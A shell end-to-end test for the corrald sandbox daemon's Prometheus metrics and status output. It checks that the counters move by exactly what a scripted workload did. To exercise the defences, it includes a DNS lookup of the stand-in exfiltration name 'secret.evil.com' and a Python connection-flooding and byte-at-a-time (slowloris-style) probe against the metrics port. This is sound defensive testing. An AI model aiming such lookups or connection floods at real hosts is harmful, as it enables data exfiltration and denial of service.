#!/bin/sh
# corrald's metrics and status (corrald(8), "METRICS"; corral(1), status
# and metrics), scraped by real clients around a known workload.
# Sets up: the test bed; corrald in the test host with metrics.listen on
# loopback; a workspace owned by uid 1000.
# Does: scrapes /metrics with curl, makes a sandbox, fetches an allowed
# host twice, is refused once by the proxy and once by the DNS stub,
# scrapes again; asks `corral metrics` and `corral status --json`.
# Expects: the text parses as the Prometheus format (python3's
# prometheus_client); each counter moved by exactly what the workload did
# (bytes as the ledger's close records say); corral metrics is root's;
# status --json carries the same counts.
. "$top_srcdir/tests/lib/tap.sh"
. "$top_srcdir/tests/e2e/lib/testbed.sh"
. "$top_srcdir/tests/e2e/lib/corral.sh"
tb_need_root
tb_install_traps
tb_up || { echo "Bail out! no test bed"; exit 1; }
PY=/usr/bin/python3                     # Debian's, with python3-prometheus-client

port=$(tb_free_port)
mport=$(tb_free_port)
ws="$TB_DIR/folders/ws"
mkdir -p "$ws"
cp "$(tb_ca_file)" "$ws/ca.pem"
chown -R 1000:1000 "$TB_DIR/folders"
chmod 0755 "$TB_DIR" "$TB_DIR/folders"
corral_config "$TB_DIR/corrald.yaml" <<YAML
host_proxy:
  listen: 127.0.0.1:$port
metrics:
  listen: 127.0.0.1:$mport
YAML
corral_start corrald "$TB_DIR/corrald.yaml" "$port"
sock="$TB_DIR/corrald.sock"
corral() { tb_exec_host "$top_builddir/corral" --socket "$sock" "$@"; }
tb_wait_listen host "$mport" || echo "# the metrics listener did not come up"

# scrape FILE: the listener's text into FILE, checked as the format.
scrape() {
	tb_exec_host curl -sS --max-time 5 "http://127.0.0.1:$mport/metrics" >"$1"
}
# value FILE NAME [LABEL=VALUE...]: the sample's value (0 when absent).
value() {
	"$PY" - "$@" <<'PY'
import sys
from prometheus_client.parser import text_string_to_metric_families
path, name, want = sys.argv[1], sys.argv[2], dict(a.split("=", 1) for a in sys.argv[3:])
for fam in text_string_to_metric_families(open(path).read()):
    for s in fam.samples:
        if s.name == name and all(s.labels.get(k, "") == v for k, v in want.items()):
            print(int(s.value) if s.value == int(s.value) else s.value)
            sys.exit(0)
print(0)
PY
}
# delta NAME [LABEL=VALUE...]: how much the sample moved between the scrapes.
delta() {
	echo $(($(value "$TB_DIR/after" "$@") - $(value "$TB_DIR/before" "$@")))
}

scrape "$TB_DIR/before"
check "the listener's text parses as the Prometheus format" "$PY" -c "
import sys
from prometheus_client.parser import text_string_to_metric_families
fams = {f.name: f for f in text_string_to_metric_families(open(sys.argv[1]).read())}
assert fams, 'no metric'
assert all(n.startswith('corral_') for n in fams), list(fams)
assert fams['corral_sandbox_create_seconds'].type == 'histogram', fams
" "$TB_DIR/before"
code=$(tb_exec_host curl -sS --max-time 5 -o /dev/null -w '%{http_code}' "http://127.0.0.1:$mport/other")
check_eq "another path is 404" 404 "$code"
check_contains "its content type is the format's" \
	"$(tb_exec_host curl -sS -D - -o /dev/null "http://127.0.0.1:$mport/metrics")" \
	"text/plain; version=0.0.4"

lines_before=$(wc -l <"$TB_DIR/log/egress.jsonl")
corral sandbox create --root "$ws" --name m1 >/dev/null
fetch() {
	corral exec m1 -- curl -sS --max-time 5 --cacert "$ws/ca.pem" -o /dev/null \
		-w '%{http_code}' "$1" 2>/dev/null
}
check_eq "an allowed fetch" 200 "$(fetch https://github.com/zen)"
check_eq "a second one" 200 "$(fetch https://github.com/zen)"
check_eq "a refused one" 000 "$(fetch https://example.com/)"
corral exec m1 -- dig +short +tries=1 +time=2 secret.evil.com >/dev/null 2>&1
sleep 0.5
corral run m1 -- true >/dev/null 2>&1
corral run m1 -- false >/dev/null 2>&1
corral run m1 --timeout 1 -- 'sleep 20' >/dev/null 2>&1
scrape "$TB_DIR/after"
check_eq "runs by outcome: two exited, one timed out" "2 1" \
	"$(delta corral_runs_total outcome=exited) $(delta corral_runs_total outcome=timed_out)"

check_eq "creates went up by one" 1 "$(delta corral_sandbox_creates_total result=created)"
check_eq "the create was timed" 1 "$(delta corral_sandbox_create_seconds_count)"
check_eq "two connections allowed" 2 \
	"$(delta corral_connections_total decision=allow reason=)"
check_eq "one refused for its host" 1 \
	"$(delta corral_connections_total decision=deny reason=host_not_allowed)"
check_eq "one name refused by the DNS stub" 1 \
	"$(delta corral_dns_queries_total decision=deny reason=dns_name_not_allowed)"
check_eq "one sandbox ready" 1 "$(value "$TB_DIR/after" corral_sandboxes state=ready)"
check_eq "no tunnel open" 0 "$(value "$TB_DIR/after" corral_tunnels_open)"
check_eq "a lifecycle record: created" 1 "$(delta corral_lifecycle_events_total reason=created)"
ledger_bytes=$(tail -n +"$((lines_before + 1))" "$TB_DIR/log/egress.jsonl" | "$PY" -c '
import json, sys
recs = [json.loads(l) for l in sys.stdin]
print(sum(r["bytes_down"] or 0 for r in recs if r["event"] == "close"),
      sum(r["bytes_up"] or 0 for r in recs if r["event"] == "close"))')
check_eq "bytes moved as the ledger's close records say" "$ledger_bytes" \
	"$(delta corral_connection_bytes_down_total) $(delta corral_connection_bytes_up_total)"
check "the monitor's round trips are timed" test "$(delta corral_monitor_request_seconds_count)" -ge 1

out=$(corral metrics)
check_contains "corral metrics gives the same text" "$out" "# TYPE corral_connections_total counter"
out=$(tb_exec_host setpriv --reuid=65534 --regid=65534 --clear-groups "$top_builddir/corral" \
	--socket "$sock" metrics 2>&1)
check_eq "corral metrics is root's: another user is refused (4)" 4 "$?"

out=$(corral status --json)
check "status --json is one object with the counts and the ledger's health" "$PY" -c "
import json, sys
o = json.loads(sys.argv[1])
assert o['status'] == 'connected' and o['uptime_s'] >= 0 and o['sandboxes'] == 1, o
c = o['counters']
assert c['creates'] >= 1 and c['connections_allowed'] >= 2 and c['connections_refused'] >= 1, c
assert c['dns_refused'] >= 1 and c['tunnels_open'] == 0, c
assert o['ledger'] == {'ok': True, 'queued_bytes': o['ledger']['queued_bytes'],
                       'refused_records': 0}, o['ledger']
assert o['firewall'] and o['layers'], o
" "$out"
check_contains "status in text names the ledger" "$(corral status)" "Ledger: ok"
out=$(tb_exec_host "$top_builddir/corral" --socket "$TB_DIR/none.sock" status --json)
check_contains "status --json without a daemon says so as JSON" "$out" \
	"{\"status\":\"disconnected\",\"reason\":\"no socket at $TB_DIR/none.sock"
# The port is open to every local user: held connections and a request
# sent a byte at a time must not take the broker's descriptors.
out=$(tb_exec_host setpriv --reuid=65534 --regid=65534 --clear-groups "$PY" - "$mport" <<'PY'
import socket, sys, time
port = int(sys.argv[1])
held, closed = [], 0
for i in range(40):
    s = socket.create_connection(("127.0.0.1", port), timeout=2)
    held.append(s)
time.sleep(0.5)
for s in held:
    s.settimeout(0.05)
    try:
        if s.recv(1) == b"":
            closed += 1
    except socket.timeout:
        pass
    except OSError:
        closed += 1
# One byte every second: the deadline runs from the accept all the same.
for s in held:
    s.close()
t = socket.create_connection(("127.0.0.1", port), timeout=2)
start, ended = time.time(), None
t.settimeout(1.2)
while time.time() - start < 12:
    try:
        t.send(b"G")
        if t.recv(1) == b"":
            ended = time.time() - start
            break
    except socket.timeout:
        continue
    except OSError:
        ended = time.time() - start
        break
print(closed, "none" if ended is None else int(ended))
PY
)
closed=${out% *}
ended=${out#* }
check "past 16 at once, held connections are closed at accept ($closed of 40)" \
	[ "${closed:-0}" -ge 24 ]
check "a head sent a byte at a time is cut at the deadline (after ${ended}s)" \
	sh -c '[ "$1" != none ] && [ "$1" -le 7 ]' _ "$ended"
scrape "$TB_DIR/again"
check "and the listener still answers" grep -q '^corral_' "$TB_DIR/again"

corral sandbox delete m1 >/dev/null
tap_done
